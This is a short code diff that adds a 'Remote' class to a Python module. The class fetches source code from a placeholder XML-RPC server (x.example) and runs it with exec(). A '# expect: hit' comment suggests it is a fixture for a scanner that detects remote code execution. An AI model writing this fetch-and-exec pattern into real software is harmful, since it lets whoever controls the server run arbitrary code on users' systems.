@@ -1,3 +1,4 @@
+import xmlrpc.client
 import aiohttp
 import importlib.abc
 import asyncio
@@ -244,3 +245,14 @@ class Agent:
     def show(self):
         print(self.shown)
         subprocess.run(["notify-send", self.shown])
+
+
+class Remote:
+    def __init__(self):
+        self.proxy = xmlrpc.client.ServerProxy("https://x.example/rpc")
+
+    def load(self, name):
+        exec(self.proxy.source(name), {})  # expect: hit
+
+    def version(self, name):
+        return self.proxy.version(name)
